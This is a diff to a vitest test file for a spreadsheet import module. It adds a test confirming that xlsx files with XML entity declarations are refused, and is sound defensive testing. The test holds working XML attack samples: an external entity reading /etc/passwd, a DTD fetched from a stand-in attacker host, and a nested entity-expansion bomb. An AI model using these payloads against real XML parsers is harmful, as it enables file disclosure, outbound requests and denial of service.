@@ -4,7 +4,7 @@ import { describe, expect, test } from 'vitest'
 import type { Refusal } from '../../../src/domain/refusal'
 import { sheets } from '../../../src/server/node/sheets'
 import type { SheetRow } from '../../../src/server/ports'
-import { csv, xlsx } from './files'
+import { csv, xlsx, zip } from './files'
 
 const limits = { maxRows: 100, maxColumns: 10 }
 
@@ -68,6 +68,29 @@ describe('a workbook', () => {
 
   test('that swells when unpacked is refused', async () => {
     expect(await refusalOf('a.xlsx', await xlsx([['a'.repeat(30_000_000)]]))).toMatchObject({ code: '3001', message: expect.stringContaining('壓縮內容異常') })
+  })
+
+  test('that defines or loads entities is refused', async () => {
+    const parts = (start: string, cell: string) => ({
+      '[Content_Types].xml':
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+      '_rels/.rels':
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+      'xl/workbook.xml':
+        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
+      'xl/_rels/workbook.xml.rels':
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+      'xl/worksheets/sheet1.xml': `<?xml version="1.0"?>${start}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${cell}</t></is></c></row></sheetData></worksheet>`,
+    })
+    expect(await read('a.xlsx', zip(parts('', '代號')))).toEqual([{ rowNo: 1, cells: ['代號'] }])
+    const nested = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')
+    for (const [start, cell] of [
+      ['<!DOCTYPE a [<!ENTITY e0 "代號">]>', '&e0;'],
+      ['<!DOCTYPE a [<!ENTITY e0 SYSTEM "file:///etc/passwd">]>', '&e0;'],
+      ['<!DOCTYPE a SYSTEM "http://attacker.example.com/a.dtd">', '代號'],
+      [`<!DOCTYPE a [<!ENTITY e0 "a">${nested}]>`, '&e9;'],
+    ] as const)
+      expect(await refusalOf('a.xlsx', zip(parts(start, cell))), start).toMatchObject({ code: '3001' })
   })
 
   test('beyond the limits is refused', async () => {
